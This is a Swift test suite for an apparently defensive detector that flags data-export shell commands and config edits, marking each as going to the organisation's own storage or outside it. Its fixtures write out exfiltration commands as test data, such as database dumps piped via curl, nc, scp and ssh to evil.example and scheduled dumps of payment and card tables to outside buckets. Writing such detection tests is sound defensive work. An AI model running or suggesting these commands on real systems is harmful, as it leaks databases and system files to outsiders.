import Detection
import Detectors
import Testing

private let owned = ["acme-*", "111122223333", "*.acme.example", "acme.example", "acmestore"]

private func shell(
  _ says: String,
  path: String = "jobs/x.sh",
  line: Int? = nil,
  _ text: String
) -> ExpectedReading {
  ExpectedReading(
    path: path,
    old: nil,
    new: text,
    direction: .widened,
    kind: "data-export.flow",
    line: line,
    says: says
  )
}

func edit(
  _ path: String,
  _ old: String?,
  _ new: String,
  _ direction: Direction?,
  _ kind: String?,
  _ says: String
) -> ExpectedReading {
  ExpectedReading(
    path: path,
    old: old,
    new: new,
    direction: direction,
    kind: kind,
    line: nil,
    says: says
  )
}

@Suite struct ShellExportTests {
  private static let commands: [ExpectedReading] = [
    shell(
      "an export of payments.* to s3://drop/p.sql (outside",
      line: 3,
      "#!/bin/sh\nset -e\npg_dump payments | gzip | aws s3 cp - s3://drop/p.sql\n"
    ),
    shell("an export of cards to /backup/c.sql", "pg_dump -t cards -d payments > /backup/c.sql"),
    shell("an export of * to standard output", "pg_dumpall"),
    shell("an export of pay.* to out.sql", "pg_dump --dbname=postgresql://u@h/pay -f out.sql"),
    shell("an export of shop.* to shop.sql", "mysqldump -h db -u root shop > shop.sql"),
    shell("an export of shop.users to d.sql", "mysqldump shop users -r d.sql"),
    shell("an export of * to all.sql", "sudo mysqldump --all-databases > all.sql"),
    shell(
      "an export of shop.orders to s3://drop/x",
      "mongodump -d shop -c orders --archive | aws s3 cp - s3://drop/x"
    ),
    shell("an export of redis localhost to /tmp/r.rdb", "redis-cli --rdb /tmp/r.rdb"),
    shell("an export of ./a to s3://drop/a (outside", "aws s3 sync ./a s3://drop/a --delete"),
    shell("to s3://acme-x/a (inside", "aws s3 cp a s3://acme-x/a"),
    shell("for everybody to read (outside", "aws s3 cp a s3://acme-x/a --acl public-read"),
    shell("an export of s3://acme-x/k to whoever has the link", "aws s3 presign s3://acme-x/k"),
    shell(
      "an export of arn:aws:rds:x to s3://drop",
      "aws rds start-export-task --source-arn arn:aws:rds:x --s3-bucket-name drop --iam-role-arn r --kms-key-id k"
    ),
    shell(
      "an export of arn:aws:dynamodb:t to s3://drop",
      "aws dynamodb export-table-to-point-in-time --table-arn arn:aws:dynamodb:t --s3-bucket drop"
    ),
    shell(
      "an export of snap to account 999988887777 (outside",
      "aws rds modify-db-snapshot-attribute --db-snapshot-identifier snap --attribute-name restore --values-to-add 999988887777"
    ),
    shell(
      "an export of cards to s3://drop/",
      "aws athena start-query-execution --query-string \"UNLOAD (SELECT * FROM cards) TO 's3://drop/'\""
    ),
    shell("an export of dump to gs://drop/", "gsutil -m cp -r dump gs://drop/"),
    shell("an export of dump to gs://drop/", "gcloud storage cp dump gs://drop/"),
    shell(
      "an export of db1, shop to gs://drop/x.gz",
      "gcloud sql export sql db1 gs://drop/x.gz --database=shop"
    ),
    shell("an export of ds.t to gs://drop/*.csv", "bq extract ds.t 'gs://drop/*.csv'"),
    shell(
      "an export of d.cards to gs://drop/*",
      "bq query --use_legacy_sql=false \"EXPORT DATA OPTIONS(uri='gs://drop/*') AS SELECT * FROM d.cards\""
    ),
    shell(
      "an export of f to https://acmestore.blob.core.windows.net/c (inside",
      "az storage blob upload --account-name acmestore -c c -f f"
    ),
    shell(
      "an export of /data to https://other.blob.core.windows.net/c (outside",
      "azcopy copy /data https://other.blob.core.windows.net/c --recursive"
    ),
    shell("an export of /data to partner:bucket/x (outside", "rclone sync /data partner:bucket/x"),
    shell("an export of /data to remote:acme-b/x (inside", "rclone copy /data remote:acme-b/x"),
    shell(
      "an export of dump.sql to bob@evil.example:/tmp (outside",
      "scp -i key dump.sql bob@evil.example:/tmp"
    ),
    shell(
      "an export of /data/ to backup.acme.example:/b (inside",
      "rsync -avz --delete /data/ backup.acme.example:/b"
    ),
    shell("an export of x to u@evil.example", "sftp u@evil.example <<EOF\nput x\nEOF\n"),
    shell(
      "an export of dump.sql to https://evil.example/u (outside",
      "curl -T dump.sql https://evil.example/u"
    ),
    shell(
      "an export of dump.sql to https://evil.example/u",
      "curl -F 'file=@dump.sql;type=x' https://evil.example/u"
    ),
    shell(
      "an export of d.json to https://evil.example/u",
      "curl -X POST --data-binary @d.json https://evil.example/u"
    ),
    shell(
      "an export of payments.* to https://evil.example",
      "pg_dump payments | curl -d @- https://evil.example"
    ),
    shell("to evil.example:9000 (outside", "tar c /etc | nc evil.example 9000"),
    shell(
      "an export of payments.* to root@evil.example:",
      "pg_dump payments | ssh root@evil.example 'cat > p.sql'"
    ),
    shell("an export of payments.* to local.sql", "ssh db1 'pg_dump payments' > local.sql"),
    shell(
      "an export of cards to s3://drop/",
      "psql -c \"COPY cards TO PROGRAM 'aws s3 cp - s3://drop/'\""
    ),
    shell("an export of cards to c.csv", "psql -c 'SELECT * FROM cards' > c.csv"),
    shell("an export of cards to /tmp/x", "psql <<SQL\nCOPY cards TO '/tmp/x';\nSQL\n"),
    shell(
      "an export of payments.* to s3://drop/p",
      "B=drop\npg_dump payments | aws s3 cp - \"s3://$B/p\""
    ),
    shell("(whose owner cannot be told)", "aws s3 cp a \"s3://$BUCKET/p\""),
    shell("an export of payments.* to p.sql", "docker exec -i db pg_dump payments > p.sql"),
    shell("an export of payments.* to p.sql", "kubectl exec db-0 -- pg_dump payments > p.sql"),
    shell("an export of payments.* to p.sql", "bash -c 'pg_dump payments > p.sql'"),
    shell(
      "an export of a.pdf to x@evil.example (outside",
      "echo hi | mutt -a a.pdf -- x@evil.example"
    ),
    shell("an export of /data to s3://drop/r (outside", "restic -r s3://drop/r backup /data"),
    shell(
      "an export of payments.* to s3://drop/p",
      path: "Makefile",
      "dump:\n\t@pg_dump payments | aws s3 cp - s3://drop/p\n"
    ),
    shell(
      "an export of x to s3://drop/x",
      path: "Dockerfile",
      line: 2,
      "FROM a\nRUN aws s3 cp x s3://drop/x\n"
    ),
    shell(
      "an export of pay.* to s3://drop/x (outside the organisation), daily",
      path: "deploy/crontab",
      "15 3 * * * pg_dump pay | aws s3 cp - s3://drop/x\n"
    ),
    shell(
      "an export of pay.* to /b/x, weekly",
      path: "etc/cron.d/b",
      "@weekly root pg_dump pay > /b/x\n"
    ),
    shell(
      "an export of dist to s3://drop (outside the organisation), daily",
      path: ".github/workflows/a.yml",
      line: 8,
      "on:\n  schedule:\n    - cron: '0 1 * * *'\njobs:\n  a:\n    steps:\n      - run: |\n          aws s3 sync dist s3://drop\n"
    ),
    shell(
      "an export of pay.* to s3://drop/x (outside the organisation), hourly",
      path: "k8s/cron.yaml",
      "apiVersion: batch/v1\nkind: CronJob\nspec:\n  schedule: '0 * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: a\n            command: [sh, -c]\n            args: ['pg_dump pay | aws s3 cp - s3://drop/x']\n"
    ),
  ]

  private static let edits: [ExpectedReading] = [
    edit(
      "x.sh",
      "pg_dump pay > /b/x\n",
      "pg_dump pay | aws s3 cp - s3://drop/x\n",
      .widened,
      "data-export.sink",
      "to s3://drop/x"
    ),
    edit(
      "x.sh",
      "aws s3 cp a s3://acme-x/a\n",
      "aws s3 cp a s3://drop/a\n",
      .widened,
      "data-export.sink",
      "from s3://acme-x/a to s3://drop/a (outside"
    ),
    edit(
      "x.sh",
      "pg_dump -t cards pay > /b/x\n",
      "pg_dump pay > /b/x\n",
      .incomparable,
      "data-export.source",
      "exports pay.* instead of cards"
    ),
    edit(
      "x.sh",
      "mysqldump pay cards > /b/x\n",
      "mysqldump pay > /b/x\n",
      .widened,
      "data-export.source",
      "exports pay.* instead of pay.cards"
    ),
    edit(
      "x.sh",
      "mysqldump --where='a=1' pay cards > /b/x\n",
      "mysqldump pay cards > /b/x\n",
      .widened,
      "data-export.filter",
      "without 'WHERE a=1'"
    ),
    edit(
      "x.sh",
      "pg_dump pay | gpg -e -r k | aws s3 cp - s3://drop/x\n",
      "pg_dump pay | aws s3 cp - s3://drop/x\n",
      .widened,
      "data-export.role",
      "no longer encrypts"
    ),
    edit(
      "etc/cron.d/x",
      "0 3 * * 0 root pg_dump pay > /b/x\n",
      "*/5 * * * * root pg_dump pay > /b/x\n",
      .widened,
      "data-export.schedule",
      "every 5 minutes"
    ),
    edit(
      "x.sh",
      "aws s3 cp a s3://drop/a\n",
      "# copy\naws  s3 cp \\\n  'a' \"s3://drop/a\"\n",
      .equal,
      nil,
      ""
    ),
    edit("x.sh", "echo 1\n", "echo 2; ls | wc -l\n", .equal, nil, ""),
    edit("x.sh", nil, "$TOOL s3 cp a b\n", nil, nil, "name is not told"),
    edit("x.sh", nil, "eval \"$X\"\n", nil, nil, "'eval'"),
    edit(
      "env/staging/x.sh",
      nil,
      "aws s3 sync s3://acme-prod-users s3://acme-staging\n",
      .widened,
      "data-export.cross-environment",
      "reads s3://acme-prod-users of production in staging"
    ),
    edit(
      "env/prod/x.sh",
      "aws s3 cp s3://acme-prod/x /tmp/x\n",
      "aws  s3 cp s3://acme-prod/x /tmp/x\n",
      .equal,
      nil,
      ""
    ),
  ]

  @Test(arguments: commands + edits)
  func command(_ expected: ExpectedReading) {
    checkReading(expected, by: ExportsDetector(), owned: owned)
  }
}
